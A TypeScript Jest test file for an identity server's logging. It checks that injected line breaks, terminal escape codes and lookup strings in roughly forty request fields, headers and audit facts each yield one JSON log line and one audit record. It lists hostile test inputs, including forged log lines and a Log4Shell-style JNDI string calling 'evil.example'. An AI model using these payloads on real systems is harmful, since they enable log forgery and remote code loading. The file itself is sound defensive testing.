/**
 * A90. An attacker writes line breaks, terminal commands or placeholders of another program into a logged value. A line
 * of theirs then stands among ours, or a log collector runs something. One event is one line of JSON with any content,
 * and one audit record.
 * Guards: JSON of pino and `src/log.ts#unruly`; the closed list of `src/audit.ts#AuditFacts`.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { AuditFacts } from '../../src/audit.ts';
import type { Log } from '../../src/log.ts';
import { auditEventKind } from '../../src/records.ts';
import type { Ask, Browser } from '../support/browser/plain.ts';
import { post } from '../support/carrier/wire.ts';
import { enterPassword, openRelyingParty, type RelyingParty } from '../support/world/relying-party.ts';
import { captureLog } from '../support/surface/captured-log.ts';
import { startWorld, type World } from '../support/world/world.ts';

const mark = 'mark-';
const forgedLine = '{"level":"info","event":"password.accepted","subject":"root"}';
const texts: readonly string[] = [
  `${mark}1\n${forgedLine}`,
  `${mark}2\r\n${forgedLine}\r\n`,
  `${mark}3\r${forgedLine}`,
  `${mark}4\u001B[2J\u001B[1;31mroot\u001B]0;title\u0007`,
  `${mark}5\u009B2J\u0085${forgedLine}`,
  `${mark}6\u2028${forgedLine}\u2029`,
  `${mark}7\u0000${forgedLine}`,
  `${mark}8\${jndi:ldap://evil.example/a}\${env:HOME}%d{x}`,
  `${mark}9\u202E\u2066\u200B\uFEFF"}],{"`,
  `${mark}10\\n\\u000a\\"}\\`,
  `${mark}11\v\f\b\u007F`,
];
/** Text that a header may hold: bytes of UTF-8 without control characters. */
const inHeader = (text: string): string =>
  // oxlint-disable-next-line no-control-regex
  Buffer.from(text.replaceAll(/[\u0000-\u001F\u007F]/g, ''), 'utf8').toString('latin1');

let world: World;
let rp: RelyingParty;
let events = 0;
const lines = captureLog();
/** Counts events beside lines. */
const counting = (log: Log): Log => {
  const at =
    (level: 'debug' | 'info' | 'warn' | 'error') =>
    (event: string, fields?: object): void => {
      events += 1;
      log[level](event, fields);
    };
  return {
    debug: at('debug'),
    info: at('info'),
    warn: at('warn'),
    error: at('error'),
    child: fields => counting(log.child(fields)),
  };
};
beforeAll(async () => {
  world = await startWorld({
    wrap: resources => {
      const logged = lines.wrap(resources);
      return { ...logged, log: counting(logged.log) };
    },
  });
  rp = await openRelyingParty(world, await world.addClient({ id: 'contoso' }));
});
afterAll(async () => {
  lines.stop();
  await world.close();
});

/** Characters that end a line for some reader: editors, terminals, log collectors in Java and JavaScript. */
const breaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/;
// oxlint-disable-next-line no-control-regex
const unruly = /[\u0000-\u001F\u007F-\u009F\u200B-\u200F\u2028-\u202E\u2060-\u206F\uFEFF]/;

const rows = async () => world.store.durable.collection(auditEventKind).find({}, { limit: 10_000 });
const expectOneLineEach = async (): Promise<void> => {
  const all = lines.lines
    .join('')
    .split(breaks)
    .filter(line => line !== '');
  expect(all).toHaveLength(events);
  expect(lines.lines).toHaveLength(events);
  expect(all.filter(line => unruly.test(line))).toEqual([]);
  const read = all.map(line => JSON.parse(line) as { readonly event: string; readonly subject?: string });
  expect(read.filter(({ subject }) => subject === 'root')).toEqual([]);
  // Every audited event is one line. It is one record too, or one of the `count` events of a record that strangers caused;
  // while their hour lasts, that count may be behind by half.
  const records = await rows();
  const audited = new Set(records.map(({ event }) => event));
  const facts = read.filter(({ event }) => audited.has(event));
  const recorded = records.reduce((sum, record) => sum + Number(record.facts['count'] ?? 1), 0);
  expect(facts.length).toBeGreaterThanOrEqual(recorded);
  expect(facts.length).toBeLessThan(2 * recorded);
};

/** Fields that a person, a client or a carrier fills. Each is tried with every text. */
const fields: Readonly<Record<string, (text: string, browser: Browser, here: string) => Promise<unknown>>> = {
  ...Object.fromEntries(
    [
      'client_id',
      'redirect_uri',
      'state',
      'nonce',
      'scope',
      'response_type',
      'response_mode',
      'prompt',
      'max_age',
      'login_hint',
      'ui_locales',
      'acr_values',
      'claims',
      'id_token_hint',
      'code_challenge',
      'request_uri',
    ].map(name => [
      `${name} of a request`,
      async (text: string, browser: Browser) => {
        const url = new URL((await rp.begin({ prompt: 'none' })).url);
        url.searchParams.set(name, text);
        return browser.go(url.href);
      },
    ]),
  ),
  ...Object.fromEntries(
    ['grant_type', 'code', 'refresh_token', 'redirect_uri', 'code_verifier', 'client_id', 'client_secret', 'scope'].map(
      name => [
        `${name} at the token endpoint`,
        async (text: string, browser: Browser) => {
          const client = { client_id: 'contoso', client_secret: rp.client.secret ?? '' };
          const form = {
            ...client,
            grant_type: 'authorization_code',
            code: 'x',
            redirect_uri: rp.redirectUri,
            [name]: text,
          };
          return browser.go('/token', { form });
        },
      ],
    ),
  ),
  ...Object.fromEntries(
    [
      'user-agent',
      'accept-language',
      'referer',
      'origin',
      'x-forwarded-for',
      'content-type',
      'authorization',
      'accept',
    ].map(name => [
      `header ${name}`,
      async (text: string, browser: Browser, here: string) => {
        const ask: Ask = { form: { code: '1' }, headers: { [name]: inHeader(text) } };
        return [await browser.go(`${here}/factor`, ask), await browser.go('/me', ask), await browser.go('/token', ask)];
      },
    ]),
  ),
  host: async (text, browser) => browser.go('/', { headers: { host: inHeader(text) } }),
  'a path': async (text, browser) => browser.go(`/nowhere/${encodeURIComponent(text)}?${encodeURIComponent(text)}`),
  'the name of a sign-in': async (text, browser) => browser.go(`/interaction/${encodeURIComponent(text)}`),
  'a cookie': async (text, browser, here) =>
    browser.go(here, { headers: { cookie: `sallyport-browser=${inHeader(text)}` } }),
  'a typed name': async (text, browser, here) => {
    world.clock.advance(3_600);
    return browser.go(`${here}/password`, { form: { name: text, password: text } });
  },
  'a typed code': async (text, browser, here) => browser.go(`${here}/factor`, { form: { code: text } }),
  'a field’s name': async (text, browser, here) => browser.go(`${here}/factor`, { form: { [text]: text } }),
  'a chosen method': async (text, browser, here) => browser.go(`${here}/options`, { form: { method: text } }),
  'an answer to consent': async (text, browser, here) => browser.go(`${here}/consent`, { form: { answer: text } }),
  'a chosen account': async (text, browser, here) => browser.go(`${here}/account`, { form: { account: text } }),
  'a language': async (text, browser) => browser.go('/language', { form: { language: text, back: text } }),
  'what a carrier says': async text =>
    post(world, {
      path: `/callbacks/twilio/call/${encodeURIComponent(text)}/status`,
      body: new URLSearchParams({ CallSid: text, CallStatus: text, Digits: text }).toString(),
      signature: inHeader(text),
    }),
};

describe('A90 one event is one line', () => {
  test('A90 an ordinary sign-in logs one line per event', async () => {
    const browser = world.browser();
    await enterPassword(browser, await browser.visit((await rp.begin()).url), world.people.noor);
    expect(events).toBeGreaterThan(2);
    await expectOneLineEach();
  });

  test('A90 payloads in any of forty fields log one line per event', async () => {
    expect(Object.keys(fields).length).toBeGreaterThanOrEqual(40);
    const before = events;
    for (const text of texts) {
      const browser = world.browser();
      const page = await enterPassword(browser, await browser.visit((await rp.begin()).url), world.people.noor);
      for (const write of Object.values(fields)) await write(text, browser, page.path);
    }
    expect(events - before).toBeGreaterThan(texts.length * 20);
    // Some payloads are really logged: the test would also pass if no payload reached the log.
    expect(lines.lines.filter(line => line.includes(mark)).length).toBeGreaterThan(texts.length);
    await expectOneLineEach();
  }, 60_000);

  test('A90 payloads in every audit fact and error message give one line and one record', async () => {
    const members = [
      'factor',
      'authenticator',
      'reason',
      'client',
      'acr',
      'amr',
      'address',
      'progress',
      'notice',
    ] as const satisfies readonly (keyof AuditFacts)[];
    for (const text of texts) {
      const facts = Object.fromEntries(members.map(name => [name, text]));
      const known = new Set((await rows()).map(({ id }) => id));
      const written = lines.lines.length;
      await world.services.audit({
        event: 'notice.sent',
        actor: text,
        subject: text,
        outcome: 'info',
        reference: text,
        ...facts,
      });
      world.services.resources.log.error(text, {
        error: new TypeError(text, { cause: new Error(text) }),
        [text]: [text],
      });
      // Rows of one millisecond are in no order: the new one is found by its id.
      const row = (await rows()).find(({ id }) => !known.has(id));
      expect(row).toMatchObject({ actor: text, subject: text, reference: text, facts });
      const [line = '', failed = ''] = lines.lines.slice(written);
      expect(JSON.parse(line)).toMatchObject({ actor: text, subject: text, ...facts });
      expect(JSON.parse(failed)).toMatchObject({
        event: text,
        error: { message: text, cause: { message: text } },
        [text]: [text],
      });
    }
    await expectOneLineEach();
  });
});
